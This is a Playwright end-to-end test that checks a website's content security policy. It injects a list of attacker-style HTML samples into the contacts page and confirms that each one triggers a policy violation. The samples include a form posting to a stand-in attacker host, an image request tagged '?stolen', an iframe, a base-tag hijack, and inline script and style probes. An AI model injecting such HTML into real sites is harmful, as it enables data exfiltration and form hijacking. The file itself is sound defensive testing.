/*
 * What the content security policy blocks. Every test sees what the policy must allow, because a violation is an error
 * in the console (`guard`). e2e/export/content/policy.test.ts checks the policy of each page.
 */

import { expect, test } from '@/e2e/lib/fixtures';

/** HTML that an attacker might inject, by the directive that blocks it. */
const injections = {
  'base-uri': '<base href="https://evil.example/">',
  'form-action':
    '<form id="evil" action="https://evil.example/" method="post"><button>Send</button></form>',
  'frame-src': '<iframe src="https://evil.example/"></iframe>',
  'img-src': '<img src="https://evil.example/?stolen" alt="">',
  'media-src': '<video src="https://evil.example/" preload="auto"></video>',
  'object-src': '<object data="/certificates/en/iso-9001.pdf"></object>',
  'script-src-attr': '<img src="/icon.svg" alt="" onload="document.title = \'reached\'">',
  'script-src-elem': '<script>document.title = "reached"</script>',
  'style-src-attr': '<p style="background: url(/stolen)">.</p>',
  'style-src-elem': '<style>body { background: url(/stolen) }</style>',
} as const;

test('the policy blocks injected HTML', async ({ page, contacts, guard }) => {
  guard.allowHost('evil.example');
  guard.tolerateConsole(/Content Security Policy/);
  const violations = new Set<string>();
  await page.exposeFunction('reportViolation', (directive: string) => violations.add(directive));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      Reflect.get(window, 'reportViolation')(effectiveDirective);
    });
  });
  await page.route('**/contacts/', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    const injected = Object.values(injections).join('');
    return route.fulfill({ response, body: html.replace('</body>', `${injected}</body>`) });
  });
  await contacts.site.open('contacts', '', { waitUntil: 'load' });
  // Playwright would wait for the page to which the form leads.
  await page.locator('#evil button').click({ noWaitAfter: true });
  await expect.poll(() => [...violations].sort()).toEqual(Object.keys(injections));
  await contacts.site.expect('contacts');
});
